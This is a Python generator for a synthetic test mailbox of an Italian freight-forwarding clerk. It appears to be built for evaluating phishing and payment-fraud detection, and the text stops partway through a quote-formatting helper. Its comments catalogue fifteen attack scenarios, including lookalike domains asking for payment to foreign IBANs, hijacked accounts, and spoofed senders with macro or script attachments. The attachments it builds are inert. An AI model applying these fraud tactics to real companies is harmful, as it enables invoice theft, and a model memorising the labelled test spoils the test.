#!/usr/bin/env python3
# Usage: python3 docs/probe/make-probe-corpus-12.py OUT_DIR
# The mailbox "gferraro" of Giulia Ferraro, export/customs clerk at Lanterna Spedizioni Internazionali S.r.l. (freight
# forwarder, Genoa; Outlook 2019 with Italian UI on an on-prem Exchange 2019, plus the company PEC box read in the same
# Outlook profile). She writes Italian, French, Spanish, Portuguese and some English with partners in Italy, France,
# Belgium, Spain, Brazil, Portugal and Mexico. 33 threads of 3-11 messages, her replies in Sent, each correspondent on
# his own client and infrastructure (Outlook/M365 FR/PT-BR/IT, Outlook 2016 over IMAP (ES, and the PEC account), Gmail
# ES/PT-BR, Google Workspace ES/IT, Apple Mail and iPhone (pt-PT, es), OVH Roundcube (FR), Aruba webmail, Register.it
# Roundcube, Libero (Open-Xchange webmail, once the Libero Mail app for Android), Zimbra (FR), HCL Notes (IT "RIF:",
# FR "Réf. :"), Thunderbird, a Google Group, a shipping line's booking robot, Aruba/Legalmail PEC envelopes) with its own
# Message-ID shape, X-Mailer/User-Agent, Received path, DKIM d=/s=, Date zone, MIME layout, charset and transfer encoding,
# localized quote header and reply prefix (top-posting; the Roundcube/Zimbra/Libero/Workspace partners trim the quote to
# the last message). Files are numbered in arrival order across INBOX and Sent; only test replies are labelled
# (labels.tsv), and scenarios.tsv maps each labelled file to its scenario. Deterministic (seeded). All domains are fictional (.example,
# and .test for the one TLD swap: a real TLD swap such as .it -> .com cannot be written with reserved names, so the
# partner's ".example" is swapped for ".test"); public providers (gmail.com, libero.it, hotmail.fr, googlegroups.com,
# aruba/legalmail PEC) appear as providers. Attachments are inert (random bytes, fake content).
#
# Plain genuine replies (genuine-reply): every partner reply in the threads below not listed as G*/A*, scenario "Tn-rK".
# Genuine hard cases:
#  G1  T5  PEC: partner's certified reply "POSTA CERTIFICATA: R: ..." from posta-certificata@pec.aruba.it ("Per conto di:"),
#          multipart/signed, original as postacert.eml, daticert.xml, smime.p7s; inner In-Reply-To = Legalmail opec id
#  G2  T5  PEC "CONSEGNA:" ricevuta di avvenuta consegna (completa) for Giulia's own PEC, from posta-certificata@pec.aruba.it
#  G3  T5  PEC "ACCETTAZIONE:" ricevuta di accettazione from posta-certificata@legalmail.it
#  G4  T8  Outlook FR "Réponse automatique : ..." absence notice (Auto-Submitted: auto-replied)
#  G5  T2  Outlook IT "Risposta automatica: ..." out-of-office of the customs broker
#  G6  T1  the customs broker's new colleague (same M365 tenant) takes over, as announced by the departing broker in the thread
#  G7  T25 shipping line's booking robot: amended booking confirmation with tracking link on a NEW portal domain (announced)
#  G8  T16 Brazilian agent replying at 23:48 São Paulo time (-0300)
#  G9  T13 Spanish agent switches from Outlook 2016 desktop to "Enviado desde mi iPhone" on a Saturday
#  G10 T20 Mexican importer switches to English in a Spanish thread (plant manager in Cc), then back to Spanish
#  G11 T8  reply-all that adds the French customs broker in Cc
#  G12 --  genuine-orphan: Outlook FR "TR : RV: ..." forward chain with a PDF from a Spanish shipping line (third party)
#  G13 T28 claim thread dormant for 7 months revived by the French consignee
#  G14 T24 marine surveyor who always sends photos/reports by WeTransfer link sends another WeTransfer link
#  G15 T4  trucker's invoice with the NEW bank account, after his letter and Giulia's own phone-verified confirmation in the thread
#  G16 T27 Google Group reply with DMARC From-rewrite "'Federico Neri' via Utenti AIDA Export" and list footer
#  G17 T1  inline-edited reply "le rispondo sotto in rosso" (HTML red answers inside the trimmed quote)
#  G18 T26 trade association's HTML reply with many links (the association always writes that way)
#  G19 T19 Portuguese agent from her iPhone "Enviado do meu iPhone" (usually Apple Mail desktop)
#  G20 T9  the French consignee's Italian-born colleague (same Roundcube) answers in Italian inside a French thread
#  G21 T12 Zimbra partner sends a zip of photos (jpg) of refused pallets
#  G22 T23 HCL Notes "RIF:" reply with an .xlsx packing list
#  G23 T17 Brazilian agent's revised debit note repeating the SAME bank details already in the thread
#  G24 T3  trucker answering at 05:52 from Aruba webmail
#  G25 T8  the French customs broker, added in Cc, answers for the first time (new sender on his own M365 tenant)
#  G26 T29 genuine-orphan: the customs broker's Outlook "I: " forward of an ADM customs-office notice (PDF), no parent in mailbox
#  G27 T30 genuine-orphan: a new colleague of the Mexican importer opens a fresh thread (same Workspace domain)
#  G28 T32 Libero (freemail) packaging supplier, always on libero.it, sends an HT-treatment certificate PDF
# Attacks (15):
#  A1  T3  server-hijack, Italian: trucker's real Aruba webmail path and headers, short text on DDT 1187, link to a zip on a hacked WordPress site
#  A2  T14 server-hijack, Spanish: Outlook 2016/IMAP path of the Valencia agent, "encrypted" zip (.js inside), password given in Spanish
#  A3  T16 server-hijack, Portuguese: Brazilian agent's M365 tenant and headers, link to a .js on a hacked site ("espelho da DI")
#  A4  T6  account-takeover: Sophie's M365 mailbox used over SMTP AUTH from a foreign IP with Thunderbird, Date +0300,
#          answering the 2nd message of an 8-message thread, PDF with a single link button
#  A5  T22 server-hijack, French text inside an Italian thread, same Register.it Roundcube path, .html credential page attached
#  A6  T18 account-takeover: Brazilian client's Gmail writes ITALIAN (she always writes Portuguese), Italian Gmail quote
#          header, 04:12 local time, .img disk image attached
#  A7  T7  lookalike-domain, TLD swap (transports-dubois.example -> transports-dubois.test): quotes the thread, new IBAN in
#          Lithuania, new Cc "comptabilité" on the look-alike domain
#  A8  T11 lookalike-domain, added letter (anvers-maritime -> anvers-maritimes): new IBAN in Poland, quotes the thread, new Cc
#  A9  T17 lookalike-domain, hyphen added (santoscargo -> santos-cargo): account abroad (GB IBAN), new Cc financeiro@
#  A10 T2  lookalike-domain, IDN homoglyph (Cyrillic i, punycode xn--...): broker's "Amministrazione" asks to redirect the
#          payment to a German IBAN, new Cc
#  A11 T19 account-takeover: Portuguese agent's mailbox via the hoster's Roundcube from another country; quoted history
#          real except the IBAN digits and the amount of the invoice
#  A12 T10 display-name-spoof "Nathalie Peeters" from hotmail.fr, .svg attachment
#  A13 T15 display-name-spoof: forged From = the Spanish client's real address (SPF softfail, no DKIM) sent by PHPMailer,
#          Reply-To diverted to a gmail.com address, asks to change the delivery address of the goods
#  A14 --  fake-thread: stranger, "R: Fattura n. 2025/0412 - sollecito di pagamento", fabricated Outlook-IT quote of Giulia, .xlsm
#  A15 T1  display-name-spoof "Marco Bellini" from libero.it, .docm "nota spese"
import base64, datetime, hashlib, html as H, io, os, quopri, random, sys, uuid, zipfile
from zoneinfo import ZoneInfo

root = sys.argv[1]
MB = "gferraro"
for f in ("INBOX", "Sent"): os.makedirs(f"{root}/mailboxes/{MB}/{f}", exist_ok=True)
R = random.Random(1212)
ROM = ZoneInfo("Europe/Rome"); PAR = ZoneInfo("Europe/Paris"); BRU = ZoneInfo("Europe/Brussels"); MAD = ZoneInfo("Europe/Madrid")
LIS = ZoneInfo("Europe/Lisbon"); SAO = ZoneInfo("America/Sao_Paulo"); MEX = ZoneInfo("America/Mexico_City"); UTC = datetime.timezone.utc
PST = ZoneInfo("America/Los_Angeles")


def hx(k): return "".join(R.choice("0123456789abcdef") for _ in range(k))
def HX(k): return hx(k).upper()
def rbytes(k): return bytes(R.getrandbits(8) for _ in range(k))
def ruuid(): return str(uuid.UUID(int=R.getrandbits(128), version=4))
def alnum(k): return "".join(R.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(k))
def b64(k): return base64.b64encode(rbytes(k)).decode()
def at(y, mo, d, h, mi, tz=ROM): return datetime.datetime(y, mo, d, h, mi, R.randint(0, 59), tzinfo=tz)


# ------------------------------------------------------------------ inert attachments
def pdf_esc(s): return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def pdf(lines, uris=(), producer="Microsoft® Word 2019", when="20250303091200", zone="+01'00'"):
    content = ("BT /F1 11 Tf 14 TL 72 770 Td " + " ".join(f"({pdf_esc(l)}) '" for l in lines) + " ET").encode("latin-1", "replace")
    objs = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", None,
            f"<< /Length {len(content)} >>\nstream\n", "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
            f"<< /Producer ({pdf_esc(producer)}) /CreationDate (D:{when}{zone}) /ModDate (D:{when}{zone}) >>"]
    annot_ids = []
    for i, u in enumerate(uris):
        objs.append(f"<< /Type /Annot /Subtype /Link /Rect [180 {520 - 40 * i} 415 {556 - 40 * i}] /Border [0 0 0] /A << /S /URI /URI ({u}) >> >>")
        annot_ids.append(len(objs))
    objs[2] = ("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R"
               + (f" /Annots [{' '.join(f'{a} 0 R' for a in annot_ids)}]" if annot_ids else "") + " >>")
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"); offsets = []
    for i, o in enumerate(objs, 1):
        offsets.append(len(out))
        if i == 4: out += f"4 0 obj\n{o}".encode() + content + b"\nendstream\nendobj\n"
        else: out += f"{i} 0 obj\n{o}\nendobj\n".encode("latin-1", "replace")
    x = len(out); fid = hx(32)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode() + b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R /Info 6 0 R /ID [<{fid}> <{fid}>] >>\nstartxref\n{x}\n%%EOF\n".encode()
    return bytes(out)


def jpg(k=2500): return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + rbytes(k) + b"\xff\xd9"


def zipfile_bytes(members, encrypted=False, when=(2025, 3, 4, 9, 0, 0)):
    bio = io.BytesIO(); z = zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED)
    for name, data in members:
        zi = zipfile.ZipInfo(name, date_time=when); zi.compress_type = zipfile.ZIP_DEFLATED; z.writestr(zi, data)
    z.close(); b = bytearray(bio.getvalue())
    if encrypted:  # set the "encrypted" general-purpose flag in every local and central header (content stays random/inert)
        for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            i = b.find(sig)
            while i >= 0:
                b[i + off] |= 1; i = b.find(sig, i + 4)
    return bytes(b)


def ooxml(kind, macro=False, text="Foglio1"):
    """a small Office Open XML package (xlsx/xlsm/docm); the VBA project, if any, is random bytes"""
    if kind == "x":
        main = "application/vnd.ms-excel.sheet.macroEnabled.main+xml" if macro else "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
        parts = [("[Content_Types].xml", f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                  f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
                  + ('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if macro else "") +
                  f'<Override PartName="/xl/workbook.xml" ContentType="{main}"/><Override PartName="/xl/worksheets/sheet1.xml" '
                  'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'),
                 ("_rels/.rels", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
                 ("xl/workbook.xml", f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                  f'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="{text}" sheetId="1" r:id="rId1"/></sheets></workbook>'),
                 ("xl/_rels/workbook.xml.rels", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
                  + ('<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>' if macro else "")
                  + '</Relationships>'),
                 ("xl/worksheets/sheet1.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                  '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>' + H.escape(text) + '</t></is></c></row></sheetData></worksheet>')]
        if macro: parts.append(("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rbytes(1500)))
    else:
        main = "application/vnd.ms-word.document.macroEnabled.main+xml" if macro else "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
        parts = [("[Content_Types].xml", f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
                  + ('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if macro else "") +
                  f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'),
                 ("_rels/.rels", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'),
                 ("word/document.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                  '<w:body><w:p><w:r><w:t>' + H.escape(text) + '</w:t></w:r></w:p></w:body></w:document>'),
                 ("word/_rels/document.xml.rels", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                  + ('<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>' if macro else "")
                  + '</Relationships>')]
        if macro: parts.append(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rbytes(1500)))
    return zipfile_bytes([(n, d.encode() if isinstance(d, str) else d) for n, d in parts])


def disk_image(inner_names):
    """an ISO-9660-looking image: system area, a primary volume descriptor with 'CD001', directory-ish names, random data"""
    b = bytearray(0x8000) + b"\x01CD001\x01\x00" + b"LINUX".ljust(32) + b"DOCUMENTI_LI".ljust(32) + bytes(0x800 - 72)
    for nm in inner_names: b += nm.encode().ljust(64, b"\x00")
    return bytes(b + rbytes(4000))


MIME_OF = {"pdf": "application/pdf", "jpg": "image/jpeg", "zip": "application/x-zip-compressed", "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
           "xlsm": "application/vnd.ms-excel.sheet.macroEnabled.12", "docm": "application/vnd.ms-word.document.macroEnabled.12", "html": "text/html",
           "svg": "image/svg+xml", "img": "application/octet-stream", "xml": "application/xml"}


def att(name, data, ctype=None): return (name, data, ctype or MIME_OF.get(name.rsplit(".", 1)[-1].lower(), "application/octet-stream"))


# ------------------------------------------------------------------ people
class Pt:
    def __init__(s, name, email, client, ui, infra, sig="", tz=ROM, host=None):
        s.name, s.email, s.client, s.ui, s.infra, s.sig, s.tz, s.host = name, email, client, ui, infra, sig, tz, host
        s.dom = email.split("@")[1]
        s.trim = False  # True: quotes only the message replied to, without its own quoted history


OWN = "lanterna-spedizioni.example"
ME_SIG = {
    "it": "Cordiali saluti",
    "fr": "Cordialement",
    "es": "Un saludo cordial",
    "pt": "Atenciosamente",
    "ptpt": "Com os melhores cumprimentos",
    "en": "Best regards"}
ME_FOOT = ("Giulia Ferraro\nUfficio Export / Dogana\nLanterna Spedizioni Internazionali S.r.l.\nVia di Francia 28 - 16149 Genova (GE) - Italia\n"
           "Tel. +39 010 555 7342 | Fax +39 010 555 7300\nwww.lanterna-spedizioni.example")


def my_sig(lang): return f"\n\n{ME_SIG[lang]}\n\n{ME_FOOT}"


me = Pt("Giulia Ferraro", f"giulia.ferraro@{OWN}", "exch19", "it", "own")
mepec = Pt("Lanterna Spedizioni S.r.l. - Giulia Ferraro", "lanterna.spedizioni@legalmail.it", "ol16", "it", "own-pec")
ME_IDS = (me, mepec)

# Italy
bellini = Pt("Marco Bellini", "m.bellini@doganebellini.example", "o365", "it", "exo-bellini",
             "\n\nCordiali saluti\nMarco Bellini\nStudio Doganale Bellini & C. s.a.s.\nSpedizionieri Doganali - Via Albertazzi 3r, 16149 Genova\n"
             "Tel. 010 555 6610 - cell. 335 555 0471")
russo = Pt("Chiara Russo", "c.russo@doganebellini.example", "o365", "it", "exo-bellini",
           "\n\nCordiali saluti\nChiara Russo\nStudio Doganale Bellini & C. s.a.s.\nVia Albertazzi 3r, 16149 Genova\nTel. 010 555 6614")
rossi = Pt("Paolo Rossi", "p.rossi@autotrasportirossi.example", "aruba", "it", "aruba",
           "\n\nPaolo Rossi\nAutotrasporti Rossi s.n.c. di Rossi Paolo & C.\nVia Valdilocchi 44 - 19136 La Spezia\nTel. 0187 555 912 - Cell. 347 555 3380")
apuane_pec = Pt("Ceramiche Apuane S.p.A. - Amministrazione", "amministrazione@pec.ceramicheapuane.example", "ol16", "it", "pec-aruba",
                "\n\nDistinti saluti\n\nUfficio Amministrazione e Logistica\nCeramiche Apuane S.p.A.\nVia Aurelia Ovest 212 - 54100 Massa (MS)\n"
                "P.IVA 00555120459 - Tel. 0585 555 300")
marchi = Pt("Elena Marchi", "elena.marchi@oleificiomarchi.example", "register", "it", "register",
            "\n\n--\nElena Marchi\nUfficio Spedizioni - Oleificio Marchi dal 1921\nStrada Colla 18 - 18100 Imperia\nTel. 0183 555 277")
conti = Pt("Stefano Conti", "stefano.conti@tessituraconti.example", "notes", "it", "notes-conti",
           "\n\nCordiali saluti\n\nStefano Conti\nCustomer Service Export\nTessitura Conti S.p.A. - Via Trossi 41, 13900 Biella\nTel. +39 015 555 8123")
gatti = Pt("Luca Gatti", "luca.gatti.imballaggi@libero.it", "libero", "it", "libero",
           "\n\nLuca Gatti\nImballaggi Gatti - casse e pallet ISPM-15\nVia Piani di Invrea 7, 16011 Arenzano (GE)\n339 555 2741")
pace = Pt("Dario Pace", "dario.pace@periziepace.example", "gws", "it", "gws-pace",
          "\n\n--\nCap. Dario Pace\nPerizie Navali Pace - Marine Surveyors & Average Adjusters\nPonte dei Mille, 16126 Genova\n+39 010 555 0980 | +39 348 555 1162")
assospedi = Pt("Segreteria Assospedi Liguria", "segreteria@assospedi-liguria.example", "o365", "it", "exo-assospedi",
               "\n\nDott.ssa Laura Ferri\nSegreteria Tecnica - Area Dogane\nAssospedi Liguria - Associazione Spedizionieri e Operatori Logistici\n"
               "Via XX Settembre 40/5, 16121 Genova | Tel. 010 555 4400")
medlink_bot = Pt("Medlink Line e-Booking", "ebooking-noreply@medlink-line.example", "bot", "en", "medlink")
medlink_cs = Pt("Francesca Bruno", "f.bruno@medlink-line.example", "o365", "it", "exo-medlink",
                "\n\nBest regards / Cordiali saluti\nFrancesca Bruno\nCustomer Service Export - Medlink Container Line (Italia) S.r.l.\n"
                "Via Balleydier 7, 16149 Genova | T +39 010 555 8800")
federico = Pt("Federico Neri", "federico.neri@spedizionineri.example", "tb", "it", "list")
simona = Pt("Simona Parodi", "simona.parodi.doganalista@gmail.com", "gmail", "it", "list")
# France / Belgium
sophie = Pt("Sophie Martin", "s.martin@transports-dubois.example", "o365", "fr", "exo-dubois",
            "\n\nCordialement,\n\nSophie Martin\nService Exploitation Europe\nTransports Dubois SAS\n12 avenue du Port, 13270 Fos-sur-Mer\n"
            "Tél. : +33 4 42 55 51 30 | Mob. : +33 6 55 52 18 44", PAR)
delmas = Pt("Hugo Delmas", "h.delmas@delmas-douane.example", "o365", "fr", "exo-delmas",
            "\n\nBien cordialement,\nHugo Delmas\nDéclarant en douane - Cabinet Delmas Douane\nZI du Caban Sud, 13270 Fos-sur-Mer\nTél. +33 4 42 55 60 12", PAR)
moreau = Pt("Jean-Luc Moreau", "jl.moreau@moreau-negoce.example", "roundcube", "fr", "ovh",
            "\n\n-- \nJean-Luc Moreau\nMoreau Négoce - Épicerie fine italienne en gros\n47 rue de Gerland, 69007 Lyon\n04 78 55 52 63", PAR)
giorgia = Pt("Giorgia Sala", "g.sala@moreau-negoce.example", "roundcube", "fr", "ovh",
             "\n\n-- \nGiorgia Sala\nAchats / Approvisionnements\nMoreau Négoce - 47 rue de Gerland, 69007 Lyon", PAR)
girard = Pt("Thomas Girard", "t.girard@groupage-alpes.example", "zimbra", "fr", "zimbra",
            "\n\nThomas Girard\nResponsable quai - Groupage Alpes SARL\n120 rue de la Revériaz, 73000 Chambéry\n04 79 55 57 09", PAR)
peeters = Pt("Nathalie Peeters", "n.peeters@anvers-maritime.example", "notes", "fr", "notes-ama",
             "\n\nMeilleures salutations,\n\nNathalie Peeters\nCustomer Service - Transhipment\nAnvers Maritime Agency NV\nNoorderlaan 133, 2030 Antwerpen\n"
             "T +32 3 555 41 87", BRU)
# Spain / Portugal / Brazil / Mexico
ortega = Pt("Javier Ortega", "jortega@levante-transitarios.example", "ol16", "es", "dinahost",
            "\n\nUn saludo,\n\nJavier Ortega Ruiz\nDpto. Marítimo - Importación/Exportación\nTransitarios Levante S.L.\nAvda. del Puerto 287, 46024 Valencia\n"
            "Tel. +34 963 55 72 10", MAD)
carmen = Pt("Carmen López", "carmen.lopez@conservasdelcantabrico.example", "gmail", "es", "gws-cantabrico",
            "\n\nCarmen López Aguirre\nCompras Internacionales\nConservas del Cantábrico S.A.\nPolígono de Raos, parcela 14 - 39011 Santander\nTel. 942 55 31 08", MAD)
souza = Pt("Rafael Souza", "rafael.souza@santoscargo.example", "o365", "pt", "exo-santos",
           "\n\nAtenciosamente,\n\nRafael Souza\nOperações de Importação - Marítimo\nSantos Cargo Agenciamento Ltda.\nRua Frei Gaspar, 22 - cj. 81 - Santos/SP - Brasil\n"
           "+55 13 5555-4120 | WhatsApp +55 13 95555-8841", SAO)
fernanda = Pt("Fernanda Lima", "fernanda.lima@laticiniosserraverde.example", "gmail", "pt", "gws-serraverde",
              "\n\nAbraço,\nFernanda Lima\nComércio Exterior - Laticínios Serra Verde Ltda.\nVarginha/MG - Brasil\n+55 35 5555-2290", SAO)
ribeiro = Pt("Ana Ribeiro", "ana.ribeiro@ribeiro-despachos.example", "apple", "ptpt", "cpanel-pt",
             "\n\nCom os melhores cumprimentos,\n\nAna Ribeiro\nRibeiro & Filhos - Despachantes Oficiais, Lda.\nAv. da Liberdade 412, 4450-718 Leça da Palmeira\n"
             "Tel. +351 229 555 310", LIS)
hernandez = Pt("Alejandro Hernández", "ahernandez@importadoraazteca.example", "gws", "es", "gws-azteca",
               "\n\nSaludos cordiales,\nAlejandro Hernández Olvera\nGerente de Comercio Exterior\nImportadora Azteca S.A. de C.V.\n"
               "Av. Ejército Nacional 843, Col. Granada, 11520 Ciudad de México\nTel. +52 55 5555 8120", MEX)
torres = Pt("Mariana Torres", "mtorres@importadoraazteca.example", "gws", "es", "gws-azteca",
            "\n\nSaludos,\nMariana Torres Vega\nCompras Internacionales\nImportadora Azteca S.A. de C.V.\nTel. +52 55 5555 8134", MEX)

TENANT = {  # M365 tenants: mailbox host, region, tenant id, outbound protection host, ip
    "doganebellini.example": ("AM0PR06MB6432", "eurprd06", "3c8b0e7a-5f21-4d6e-9a0b-1e2f3c4d5a61", "mail-am0eur02on2112.outbound.protection.outlook.com", "40.107.247.112"),
    "transports-dubois.example": ("PR3P192MB0718", "EURP192", "a61d4c02-9b7e-4f3a-8c15-77e0d2b4f903", "mail-pr3fra01on2084.outbound.protection.outlook.com", "40.107.129.84"),
    "delmas-douane.example": ("PAYP264MB3391", "FRAP264", "0f5e9a31-2c4b-4d8e-b6a7-9c0d1e2f3a4b", "mail-pa5fra01on2101.outbound.protection.outlook.com", "40.107.175.101"),
    "santoscargo.example": ("CP4P284MB2061", "BRAP284", "7e2a1b9c-3d4e-4f5a-8b6c-0d1e2f3a4b5c", "mail-cpbbra01on2093.outbound.protection.outlook.com", "40.107.167.93"),
    "assospedi-liguria.example": ("DU0PR01MB8804", "eurprd01", "b2c3d4e5-f6a7-4b8c-9d0e-1f2a3b4c5d6e", "mail-du2eur01on2121.outbound.protection.outlook.com", "40.107.12.121"),
    "medlink-line.example": ("AS8PR04MB7220", "eurprd04", "c9d8e7f6-a5b4-4c3d-8e2f-1a0b9c8d7e6f", "mail-as8eur04on2070.outbound.protection.outlook.com", "40.107.22.70"),
}


def make_mid(who, client, t):
    ms = int(t.timestamp() * 1000) + R.randint(0, 999)
    if client == "exch19": return f"<{hx(32)}@EXMBX01.lanterna.local>"
    if client == "o365":
        host, reg = TENANT[who.dom][:2]
        return f"<{host}{HX(16)}@{host}.{reg.upper()}.PROD.OUTLOOK.COM>"
    if client == "ol16": return f"<{hx(4)}01db{hx(4)}${hx(8)}${hx(8)}$@{who.dom}>"
    if client in ("gmail", "gws"): return "<CA" + R.choice("ABDEFGHJKLMNOP") + base64.urlsafe_b64encode(rbytes(42)).decode()[:53].replace("-", "+") + "@mail.gmail.com>"
    if client in ("apple", "iphone"): return f"<{ruuid().upper()}@{who.dom}>"
    if client in ("roundcube", "register"): return f"<{hx(32)}@{who.dom}>"
    if client == "aruba": return f"<{hx(32)}@webmail.aruba.it>" if False else f"<{hx(16)}{hx(16)}@{who.dom}>"
    if client == "zimbra": return f"<{R.randint(10**8, 10**9 - 1)}.{R.randint(10**5, 10**6 - 1)}.{ms}.JavaMail.zimbra@{who.dom}>"
    if client == "notes":
        d = {"tessituraconti.example": "tessituraconti.example", "anvers-maritime.example": "LocalDomain"}.get(who.dom, who.dom)
        k = HX(2)
        return f"<OF{HX(8)}.{HX(8)}-ONC1258C{k}.{HX(8)}-C1258C{k}.{HX(8)}@{d}>"
    if client == "libero": return f"<{R.randint(10**8, 10**9 - 1)}.{R.randint(10**5, 10**6 - 1)}.{ms}@libero.it>"
    if client == "tb": return f"<{ruuid()}@{who.dom}>"
    if client == "bot": return f"<{t.astimezone(UTC):%Y%m%d%H%M%S}.{HX(8)}@ebooking.medlink-line.example>"
    if client == "phpmailer": return f"<{alnum(43)}@vps-3f2a1c.cloudvps-hosting.example>"
    if client == "hotmail": host = "AS8P250MB0" + str(R.randint(100, 999)); return f"<{host}{HX(16)}@{host}.EURP250.PROD.OUTLOOK.COM>"
    return f"<{hx(32)}@{who.dom}>"


# ------------------------------------------------------------------ localized dates and quote headers
IT_D = "lunedì martedì mercoledì giovedì venerdì sabato domenica".split(); IT_M = "gennaio febbraio marzo aprile maggio giugno luglio agosto settembre ottobre novembre dicembre".split()
IT_DA = "lun mar mer gio ven sab dom".split(); IT_MA = "gen feb mar apr mag giu lug ago set ott nov dic".split()
FR_D = "lundi mardi mercredi jeudi vendredi samedi dimanche".split(); FR_M = "janvier février mars avril mai juin juillet août septembre octobre novembre décembre".split()
FR_DA = "lun. mar. mer. jeu. ven. sam. dim.".split(); FR_MA = "janv. févr. mars avr. mai juin juil. août sept. oct. nov. déc.".split()
ES_D = "lunes martes miércoles jueves viernes sábado domingo".split(); ES_M = "enero febrero marzo abril mayo junio julio agosto septiembre octubre noviembre diciembre".split()
ES_DA = "lun mar mié jue vie sáb dom".split(); ES_MA = "ene feb mar abr may jun jul ago sept oct nov dic".split()
PT_D = "segunda-feira terça-feira quarta-feira quinta-feira sexta-feira sábado domingo".split(); PT_M = "janeiro fevereiro março abril maio junho julho agosto setembro outubro novembro dezembro".split()
PT_DA = "seg. ter. qua. qui. sex. sáb. dom.".split(); PT_MA = "jan. fev. mar. abr. mai. jun. jul. ago. set. out. nov. dez.".split()


def outlook_date(ui, t):
    wd, d, mo, y = t.weekday(), t.day, t.month - 1, t.year
    if ui == "it": return f"{IT_D[wd]} {d} {IT_M[mo]} {y} {t:%H:%M}"
    if ui == "fr": return f"{FR_D[wd]} {d} {FR_M[mo]} {y} {t:%H:%M}"
    if ui == "es": return f"{ES_D[wd]}, {d} de {ES_M[mo]} de {y} {t:%H:%M}"
    if ui == "pt": return f"{PT_D[wd]}, {d} de {PT_M[mo]} de {y} {t:%H:%M}"
    return f"{t:%A}, {t:%B} {d}, {y} {t:%I:%M %p}"


def fmt_to(lst): return "; ".join(f"{n} <{e}>" for n, e in lst)


def quote_of(replier, client, q, ui=None, tz=None):
    """the quote block the replying client writes under the text (q = record of the message replied to)"""
    ui = ui or replier.ui
    t = q["t"].astimezone(tz or replier.tz)
    name, email = q["name"], q["email"]
    gt = "\n".join("> " + l if l else ">" for l in q["plain"].split("\n"))
    if client in ("exch19", "o365", "ol16", "hotmail"):
        frm = f"{name} [mailto:{email}]" if client == "ol16" else f"{name} <{email}>"
        L = {"it": ("Da", "Inviato", "A", "Cc", "Oggetto"), "fr": ("De ", "Envoyé ", "À ", "Cc ", "Objet "),
             "es": ("De", "Enviado el", "Para", "CC", "Asunto"), "pt": ("De", "Enviada em", "Para", "Cc", "Assunto"),
             "en": ("From", "Sent", "To", "Cc", "Subject")}[ui if ui in ("it", "fr", "es", "pt") else "en"]
        rows = [(L[0], frm), (L[1], outlook_date(ui, t)), (L[2], fmt_to(q["to"]))] + ([(L[3], fmt_to(q["cc"]))] if q["cc"] else []) + [(L[4], q["subj"])]
        sep = "________________________________\n" if client in ("o365", "hotmail") else ""
        return "\n\n" + sep + "\n".join(f"{k}: {v}" for k, v in rows) + "\n\n" + q["plain"]
    if client in ("gmail", "gws"):
        wd, d, mo, y = t.weekday(), t.day, t.month - 1, t.year
